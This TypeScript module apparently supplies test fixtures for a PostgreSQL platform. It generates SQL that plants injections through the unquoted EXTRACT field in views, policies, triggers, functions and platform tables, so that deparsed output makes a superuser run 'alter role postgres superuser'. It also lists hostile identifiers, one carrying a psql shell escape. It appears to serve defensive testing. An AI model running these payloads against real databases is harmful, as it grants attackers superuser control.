/** What an attacker would like a superuser to run. */
export const ATTACK = 'alter role postgres superuser';

/**
 * PostgreSQL prints the field of EXTRACT as it is, without quotes, wherever it prints an expression. `$` is the schema of the
 * case, and the name of what it adds to a table of the platform; between `«` and `»` stands what the field closes before the attack begins.
 */
const WRITTEN: Record<string, string> = {
  view: `create view $.v as select extract('«day FROM now())»' from now())`,
  'materialized view': `create materialized view $.v as select extract('«day FROM now())»' from now()) with no data`,
  'column default': `create table $.t (a numeric default extract('«day FROM now()) )»' from now()))`,
  'generated column': `create table $.t (d timestamp, g numeric generated always as (extract('«day FROM d)) STORED )»' from d)) stored)`,
  check: `create table $.t (d timestamp, check (extract('«day FROM d) > 0)) )»' from d) > 0))`,
  'late check': `create table $.t (d timestamp);
    alter table $.t add check (extract('«day FROM d) > 0))»' from d) > 0) not valid`,
  'domain check': `create domain $.d as timestamp check (extract('«day FROM VALUE) > 0))»' from value) > 0)`,
  'domain default': `create domain $.d as numeric default extract('«day FROM now())»' from now())`,
  'index expression': `create table $.t (d timestamp); create index on $.t (extract('«day FROM d))»' from d))`,
  'index predicate': `create table $.t (d timestamp); create index on $.t (d) where extract('«day FROM d) > 0)»' from d) > 0`,
  exclusion: `create table $.t (d timestamp, exclude using btree ((extract('«day FROM d) WITH =)»' from d)) with =))`,
  'policy using': `create table $.t (d timestamp);
    create policy p on $.t using (extract('«day FROM d) > 0))»' from d) > 0)`,
  'policy with check': `create table $.t (d timestamp);
    create policy p on $.t for insert with check (extract('«day FROM d) > 0))»' from d) > 0)`,
  'rule condition': `create table $.t (d timestamp); create rule r as on update to $.t
    where extract('«day FROM new.d) > 0) DO INSTEAD NOTHING»' from new.d) > 0 do instead nothing`,
  'rule action': `create table $.t (d timestamp); create rule r as on update to $.t
    do also select extract('«day FROM now())»' from now())`,
  'trigger condition': `create table $.t (d timestamp);
    create function $.f() returns trigger language plpgsql as 'begin return new; end';
    create trigger r before insert on $.t for each row
      when (extract('«day FROM new.d) > 0)) EXECUTE FUNCTION $.f()»' from new.d) > 0) execute function $.f()`,
  'partition key': `create table $.t (d timestamp) partition by range (extract('«day FROM d))»' from d))`,
  statistics: `create table $.t (d timestamp, a int);
    create statistics $.s on a, (extract('«day FROM d), a FROM $.t»' from d)) from $.t`,
  'publication condition': `create table $.t (d timestamp);
    create publication p_$ for table $.t where (extract('«day FROM d) > 0))»' from d) > 0)`,
  'body of a function': `create function $.f() returns numeric language sql
    begin atomic select extract('«day FROM now()); END»' from now()); end`,
  'value of a function': `create function $.f() returns numeric language sql return extract('«day FROM now())»' from now())`,
  'default of an argument': `create function $.f(a numeric default extract('«day FROM now())) returns int language sql as ''select 1''»' from now()))
    returns int language sql as 'select 1'`,
  'default of a column of the platform': `alter table auth.users add column $ numeric;
    alter table auth.users alter $ set default extract('«day FROM now())»' from now())`,
  'check on a table of the platform': `alter table storage.buckets
    add constraint $ check (extract('«day FROM created_at) > 0))»' from created_at) > 0) not valid`,
  'index on a table of the platform': `create index $ on realtime.subscription (extract('«day FROM created_at))»' from created_at))`,
  'policy on a table of the platform': `create policy $ on storage.objects
    using (extract('«day FROM created_at) > 0))»' from created_at) > 0)`,
  'trigger on a table of the platform': `create function $.f() returns trigger language plpgsql as 'begin return new; end';
    create trigger $ before insert on auth.users for each row
      when (extract('«day FROM new.created_at) > 0)) EXECUTE FUNCTION $.f()»' from new.created_at) > 0)
      execute function $.f()`,
  'rule on a table of the platform': `create rule $ as on update to realtime.messages
    do also select extract('«day FROM now())»' from now())`,
};

/**
 * By kind of object: statements that the role `postgres` may run, whose printed form holds {@link ATTACK} as a statement. The
 * name of its schema is in the names of all that it makes, and in no other kind's: all fit into one database.
 */
export function deparserInjections(attack = ATTACK): [kind: string, sql: string, schema: string][] {
  return Object.entries(WRITTEN).map(([kind, sql], number) => [
    kind,
    `create schema $; ${sql}`
      .replace('»', `; ${attack}; select 1 as x; --`)
      .replace('«', '')
      .replaceAll('$', `hostile_${number}`),
    `hostile_${number}`,
  ]);
}

/** Names that end or begin something wherever they are not quoted. */
export const HOSTILE_NAMES = [
  `a"; ${ATTACK}; --`,
  `a'; ${ATTACK}; --`,
  `$$; ${ATTACK}; --`,
  `b\n${ATTACK};\n--`,
  `\n\\restrict x\n${ATTACK};`,
  `*/ ${ATTACK}; /*`,
  `\\! id; \\' ${ATTACK};`,
  `ü\u2028😀"'`,
];
